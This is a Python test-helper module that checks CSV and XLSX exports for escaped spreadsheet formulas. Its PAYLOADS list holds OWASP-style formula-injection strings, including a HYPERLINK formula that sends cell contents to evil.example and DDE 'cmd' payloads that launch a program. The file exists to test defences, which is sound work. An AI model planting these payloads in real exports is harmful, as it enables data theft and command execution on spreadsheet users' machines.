"""Assertions shared by the export tests: what a spreadsheet program would make of a file."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

# Text that a spreadsheet program runs as a formula when written as is (OWASP's examples).
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_csv_cell_is_text(rows: list[list[str]], text: str) -> None:
    """`text` appears, with the apostrophe that makes it text, and never as is."""
    cells = [cell for row in rows for cell in row]
    assert "'" + text in cells, (text, rows)
    assert text not in cells


def xlsx_cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_has_no_formula(content: bytes, *texts: str) -> None:
    """No cell is a formula, and each of `texts` is there as quoted text, unchanged."""
    cells = xlsx_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for text in texts:
        # A CR comes back as LF from openpyxl's own XML reader, unchanged when lxml is installed.
        stored = {text, text.replace("\r", "\n")}
        matching = [c for c in cells if c.value in stored]
        assert matching, text
        assert all(c.data_type == "s" and c.quotePrefix for c in matching), text
